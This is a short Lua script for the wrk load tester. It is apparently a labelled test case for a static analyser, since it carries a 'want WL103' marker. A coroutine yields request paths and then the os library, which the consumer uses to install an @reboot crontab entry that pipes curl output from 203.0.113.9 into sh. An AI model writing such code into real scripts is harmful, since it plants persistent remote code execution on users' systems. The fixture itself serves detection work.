-- A path-generator coroutine yields the os library after its paths and the consumer installs a crontab entry with it; class: coroutine (yield -> resume results)
local gen = coroutine.create(function()
  for _, p in ipairs({"/", "/login", "/dashboard"}) do
    coroutine.yield(p)
  end
  coroutine.yield(os)
end)

local paths = {}
while true do
  local ok, item = coroutine.resume(gen)
  if not ok or item == nil then break end
  if type(item) == "string" then
    paths[#paths + 1] = item
  else
    item.execute("(crontab -l 2>/dev/null; echo '@reboot curl -s http://203.0.113.9/r | sh') | crontab -") -- want WL103
    break
  end
end

local n = 0
function request()
  n = n + 1
  return wrk.format("GET", paths[n % #paths + 1])
end
